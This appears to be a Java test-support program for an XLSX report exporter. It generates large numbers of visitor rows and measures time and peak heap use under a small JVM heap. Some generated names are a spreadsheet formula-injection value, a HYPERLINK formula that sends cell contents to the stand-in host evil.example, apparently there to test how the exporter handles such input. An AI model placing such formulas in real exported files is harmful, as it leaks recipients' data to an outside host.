package io.sharehub.poi;

import io.sharehub.export.Column;
import io.sharehub.export.ColumnType;
import io.sharehub.export.Report;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.lang.management.MemoryPoolMXBean;
import java.lang.management.MemoryType;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;

/**
 * Run in a child JVM with a small heap by {@link XlsxLargeExportTest}: writes a report of lazily
 * made rows of every column type to a file, then prints rows, seconds and peak heap.
 *
 * <p>Arguments: the output file, the temp folder, the number of rows, and optionally
 * {@code false} to leave the temp files uncompressed.
 */
public final class LowMemoryExport {
    static final List<Column> PROMOTER_VISITORS = List.of(
            Column.of("visitor", "访客", ColumnType.TEXT),
            Column.personal("phone", "手机号"),
            Column.of("campaign", "活动", ColumnType.TEXT),
            Column.of("points", "积分", ColumnType.INTEGER),
            Column.of("rate", "转化率", ColumnType.DECIMAL),
            Column.of("firstVisit", "首次访问", ColumnType.INSTANT),
            Column.of("day", "日期", ColumnType.DATE),
            Column.of("reversed", "已冲正", ColumnType.BOOLEAN));

    private static final Instant FIRST_VISIT = Instant.parse("2024-03-01T01:30:00Z");

    private LowMemoryExport() {
    }

    /** A visitor row of every type; every 97th has empty cells and every 89th a formula-looking name. */
    static List<Object> visitor(long i) {
        Instant first = FIRST_VISIT.plusSeconds(i * 7);
        if (i % 97 == 0) {
            return Arrays.asList("V" + i, null, null, i, null, null, null, null);
        }
        return List.of(i % 89 == 0 ? "=HYPERLINK(\"http://evil.example/?d=\"&A" + i + ")" : "V" + i,
                "138****" + (1_000 + i % 9_000), "双十一预热第" + (i % 50) + "波",
                i % 13 - 5, BigDecimal.valueOf(i % 1_000, 3), first, LocalDate.of(2024, 3, 1).plusDays(i % 365), i % 2 == 0);
    }

    public static void main(String[] args) throws Exception {
        Path file = Path.of(args[0]);
        Path temp = Path.of(args[1]);
        long rows = Long.parseLong(args[2]);
        boolean compress = args.length < 4 || Boolean.parseBoolean(args[3]);
        Report report = Xlsx.generated("推广员访客", PROMOTER_VISITORS, rows, (i, sink) -> sink.accept(visitor(i)));
        long start = System.nanoTime();
        long[] rowsDone = {0};
        try (OutputStream out = Files.newOutputStream(file)) {
            XlsxReportWriter.builder().tempFolder(temp).compressTempFiles(compress)
                    .progress(written -> rowsDone[0] = System.nanoTime()).build().write(report, out);
        }
        long end = System.nanoTime();
        double seconds = (end - start) / 1e9;
        long peak = 0;
        for (MemoryPoolMXBean pool : ManagementFactory.getMemoryPoolMXBeans()) {
            if (pool.getType() == MemoryType.HEAP) {
                peak += pool.getPeakUsage().getUsed();
            }
        }
        double cpu = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() / 1e9;
        System.out.printf(Locale.ROOT, "rows=%d seconds=%.1f (rows %.1f, zip %.1f) cpuSeconds=%.1f rowsPerSecond=%.0f"
                + " peakHeapMiB=%d maxHeapMiB=%d bytes=%d%n", rows, seconds, (rowsDone[0] - start) / 1e9,
                (end - rowsDone[0]) / 1e9, cpu, rows / seconds, peak >> 20, Runtime.getRuntime().maxMemory() >> 20,
                Files.size(file));
    }
}
